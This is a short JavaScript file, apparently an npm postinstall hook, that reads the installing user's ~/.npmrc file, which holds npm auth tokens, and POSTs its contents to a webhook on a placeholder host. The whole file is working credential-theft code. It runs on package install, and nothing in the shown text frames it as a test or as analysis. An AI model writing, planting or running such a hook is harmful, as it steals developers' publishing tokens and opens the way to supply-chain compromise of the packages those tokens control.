// The npm token file goes to a web hook; runs: postinstall
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const file = path.join(os.homedir(), ".npmrc");
if (fs.existsSync(file)) {
  const token = fs.readFileSync(file, "utf8");
  const request = https.request("https://hooks.example.test/api/webhooks/1/a", { method: "POST" });
  request.write(JSON.stringify({ content: token }));
  request.end();
}
